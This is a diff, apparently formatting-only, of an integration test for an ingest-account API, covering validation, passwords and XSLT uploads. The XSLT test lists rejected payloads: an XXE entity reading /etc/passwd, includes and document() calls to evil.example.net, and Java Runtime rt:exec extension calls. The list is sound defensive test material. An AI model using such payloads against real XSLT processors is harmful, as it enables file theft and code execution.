@@ -28,7 +28,12 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
 
   beforeAll(async () => {
     s = await startTestStack({ provider });
-    [superUser, contractor, regular, reader] = await Promise.all(['super_user', 'luc_contractor', 'luc_regular', 'luc_read'].map((u) => s.login(u))) as [string, string, string, string];
+    [superUser, contractor, regular, reader] = (await Promise.all(['super_user', 'luc_contractor', 'luc_regular', 'luc_read'].map((u) => s.login(u)))) as [
+      string,
+      string,
+      string,
+      string,
+    ];
     recordPublished(s.app, published);
   });
   afterAll(async () => s?.close());
@@ -58,19 +63,32 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
     expect(none).toMatchObject({ exists: false, username: '', hasPassword: false, hasXslt: false, version: 0 });
     expect(await test()).toEqual({ inventoryId: GLOBAL, ok: false, reason: INGEST_TEST_REASONS.noAccount });
     published.length = 0;
-    const created = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { username: 'global.ingest', enabled: true, host: 'ingest.example.net', port: 2121, path: '/in' });
+    const created = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, {
+      username: 'global.ingest',
+      enabled: true,
+      host: 'ingest.example.net',
+      port: 2121,
+      path: '/in',
+    });
     expect(created.statusCode, created.body).toBe(200);
     const a: IngestAccount = created.json();
-    expect(a).toMatchObject({ exists: true, username: 'global.ingest', configuration: { enabled: true, host: 'ingest.example.net', port: 2121, path: '/in' }, version: 1 });
+    expect(a).toMatchObject({
+      exists: true,
+      username: 'global.ingest',
+      configuration: { enabled: true, host: 'ingest.example.net', port: 2121, path: '/in' },
+      version: 1,
+    });
     expect(published.some((p) => p.event.type === 'inventory.changed' && p.topics.includes(inventoryTopic(GLOBAL)))).toBe(true);
 
     const before = await snapshot();
     const bad = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { username: 'no spaces', port: 0 });
     expect(bad.statusCode).toBe(400);
-    expect(JSON.parse(bad.body).error.fields).toEqual(expect.arrayContaining([
-      { path: 'body.username', message: VALIDATION.mustMatchPattern },
-      { path: 'body.port', message: VALIDATION.minValue(1) },
-    ]));
+    expect(JSON.parse(bad.body).error.fields).toEqual(
+      expect.arrayContaining([
+        { path: 'body.username', message: VALIDATION.mustMatchPattern },
+        { path: 'body.port', message: VALIDATION.minValue(1) },
+      ]),
+    );
     const stale = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { path: '/x', version: a.version + 1 });
     expect(stale.statusCode).toBe(409);
     // Sports is the contractor's too? Super user makes one there, then tries Global's username.
@@ -81,7 +99,11 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
     expect(await snapshot()).toBe(before);
 
     const changed = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { enabled: false, version: a.version });
-    expect(changed.json()).toMatchObject({ username: 'global.ingest', configuration: { enabled: false, host: 'ingest.example.net', port: 2121, path: '/in' }, version: 2 });
+    expect(changed.json()).toMatchObject({
+      username: 'global.ingest',
+      configuration: { enabled: false, host: 'ingest.example.net', port: 2121, path: '/in' },
+      version: 2,
+    });
     expect(await test()).toMatchObject({ ok: false, reason: INGEST_TEST_REASONS.disabled });
     await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor, { enabled: true });
     expect(await test()).toMatchObject({ ok: false, reason: INGEST_TEST_REASONS.noPassword });
@@ -99,11 +121,17 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
       expect(res.statusCode, password).toBe(400);
       expect(field(res.body), password).toEqual({ path: 'body.password', message });
     }
-    const mismatch = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, { password: 'Ingest-2024', passwordConfirmation: 'Ingest-2025' });
+    const mismatch = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, {
+      password: 'Ingest-2024',
+      passwordConfirmation: 'Ingest-2025',
+    });
     expect(field(mismatch.body)).toEqual({ path: 'body.passwordConfirmation', message: VALIDATION.passwordsMustMatch });
     expect(await snapshot()).toBe(before);
 
-    const ok = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, { password: 'Ingest.pass', passwordConfirmation: 'Ingest.pass' });
+    const ok = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, {
+      password: 'Ingest.pass',
+      passwordConfirmation: 'Ingest.pass',
+    });
     expect(ok.statusCode, ok.body).toBe(200);
     expect(ok.json().hasPassword).toBe(true);
     expect(ok.body).not.toContain('Ingest.pass');
@@ -114,7 +142,7 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
     await expect.poll(async () => (await test()).ok, { timeout: 10_000 }).toBe(true);
   });
 
-  it('stores a safe XSLT with the account\'s password and refuses each dangerous construct, or a wrong password, with a clear message, storing nothing', async () => {
+  it("stores a safe XSLT with the account's password and refuses each dangerous construct, or a wrong password, with a clear message, storing nothing", async () => {
     const before = await snapshot();
     const dangerous: [string, string][] = [
       [`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${sheet('')}`, VALIDATION.xsltNotAllowed('DOCTYPE declarations')],
@@ -122,14 +150,29 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
       [sheet('<xsl:include href="http://evil.example.net/x.xsl"/>'), VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
       [sheet('<xsl:import href="other.xsl"/>'), VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
       // XSLT as the default namespace: no prefix.
-      ['<stylesheet version="1.0" xmlns="http://www.w3.org/1999/XSL/Transform"><include href="http://evil.example.net/x.xsl"/></stylesheet>', VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)')],
-      [sheet(`<xsl:template match="/"><xsl:copy-of select="document('http://evil.example.net/x.xml')"/></xsl:template>`), VALIDATION.xsltNotAllowed('document() references other than the stylesheet itself')],
-      [sheet(`<xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/passwd')"/></xsl:template>`), VALIDATION.xsltNotAllowed('references to external documents')],
+      [
+        '<stylesheet version="1.0" xmlns="http://www.w3.org/1999/XSL/Transform"><include href="http://evil.example.net/x.xsl"/></stylesheet>',
+        VALIDATION.xsltNotAllowed('xsl:include and xsl:import (external references)'),
+      ],
+      [
+        sheet(`<xsl:template match="/"><xsl:copy-of select="document('http://evil.example.net/x.xml')"/></xsl:template>`),
+        VALIDATION.xsltNotAllowed('document() references other than the stylesheet itself'),
+      ],
+      [
+        sheet(`<xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/passwd')"/></xsl:template>`),
+        VALIDATION.xsltNotAllowed('references to external documents'),
+      ],
       [sheet('<xsl:template match="/"><a href="file:/etc/hosts"/></xsl:template>'), VALIDATION.xsltNotAllowed('file: references')],
       [sheet('<xsl:template match="/"><xsl:result-document href="out.xml"/></xsl:template>'), VALIDATION.xsltNotAllowed('xsl:result-document')],
       [sheet('<msxsl:script language="JScript">1</msxsl:script>', ' xmlns:msxsl="urn:schemas-microsoft-com:xslt"'), VALIDATION.xsltNotAllowed('scripts')],
-      [sheet('<xsl:template match="/"/>', ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" extension-element-prefixes="rt"'), VALIDATION.xsltNotAllowed('extension elements')],
-      [sheet('<xsl:template match="/"><xsl:value-of select="rt:exec(\'ls\')"/></xsl:template>', ' xmlns:rt="java:java.lang.Runtime"'), VALIDATION.xsltNotAllowed('extension namespaces')],
+      [
+        sheet('<xsl:template match="/"/>', ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" extension-element-prefixes="rt"'),
+        VALIDATION.xsltNotAllowed('extension elements'),
+      ],
+      [
+        sheet('<xsl:template match="/"><xsl:value-of select="rt:exec(\'ls\')"/></xsl:template>', ' xmlns:rt="java:java.lang.Runtime"'),
+        VALIDATION.xsltNotAllowed('extension namespaces'),
+      ],
       ['<html><body>not a stylesheet</body></html>', VALIDATION.xsltOnly],
     ];
     for (const [content, message] of dangerous) {
@@ -139,7 +182,10 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
     }
     const txt = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, { fileName: 'metadata.txt', content: SAFE_XSLT });
     expect(field(txt.body)).toEqual({ path: 'body.fileName', message: VALIDATION.xsltOnly });
-    const huge = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, { fileName: 'big.xsl', content: sheet(`<!-- ${'x'.repeat(300_000)} -->`) });
+    const huge = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, {
+      fileName: 'big.xsl',
+      content: sheet(`<!-- ${'x'.repeat(300_000)} -->`),
+    });
     expect(huge.statusCode).toBe(400);
     expect(field(huge.body)?.path).toBe('body.content');
     expect(await snapshot()).toBe(before);
@@ -147,12 +193,20 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
     // The XSLT security check: the account has a password (the test before), so the upload carries it.
     const selfRef = sheet(`<xsl:template match="/"><xsl:copy-of select="document('')"/></xsl:template>`);
     for (const password of [undefined, 'Ingest.wrong']) {
-      const refused = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, { fileName: 'metadata.xslt', content: selfRef, ...(password ? { password } : {}) });
+      const refused = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, {
+        fileName: 'metadata.xslt',
+        content: selfRef,
+        ...(password ? { password } : {}),
+      });
       expect(refused.statusCode, String(password)).toBe(403);
       expect(refused.json().error).toMatchObject({ code: 'INCORRECT_PASSWORD', message: 'Incorrect password' });
     }
     expect(await snapshot()).toBe(before);
-    const ok = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, { fileName: 'metadata.xslt', content: selfRef, password: 'Ingest.pass' });
+    const ok = await call('POST', `/v2/inventories/${GLOBAL}/ingestAccount/xslt`, contractor, {
+      fileName: 'metadata.xslt',
+      content: selfRef,
+      password: 'Ingest.pass',
+    });
     expect(ok.statusCode, ok.body).toBe(200);
     expect(ok.json()).toMatchObject({ hasXslt: true, xsltFileName: 'metadata.xslt' });
     expect(ok.body).not.toContain('xsl:template');
@@ -167,7 +221,10 @@ describe.each(providers())('ingest accounts on %s', (provider) => {
     expect((await call('DELETE', `/v2/inventories/${GLOBAL}/ingestAccount`, contractor)).statusCode).toBe(200);
     expect(await test()).toMatchObject({ ok: false, reason: INGEST_TEST_REASONS.noAccount });
     // The account survives nothing else: a password set on no account creates one, still disabled.
-    const pw = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, { password: 'Again-2024', passwordConfirmation: 'Again-2024' });
+    const pw = await call('PUT', `/v2/inventories/${GLOBAL}/ingestAccount/password`, contractor, {
+      password: 'Again-2024',
+      passwordConfirmation: 'Again-2024',
+    });
     expect(pw.json()).toMatchObject({ exists: true, hasPassword: true, configuration: { enabled: false } });
   });
 });
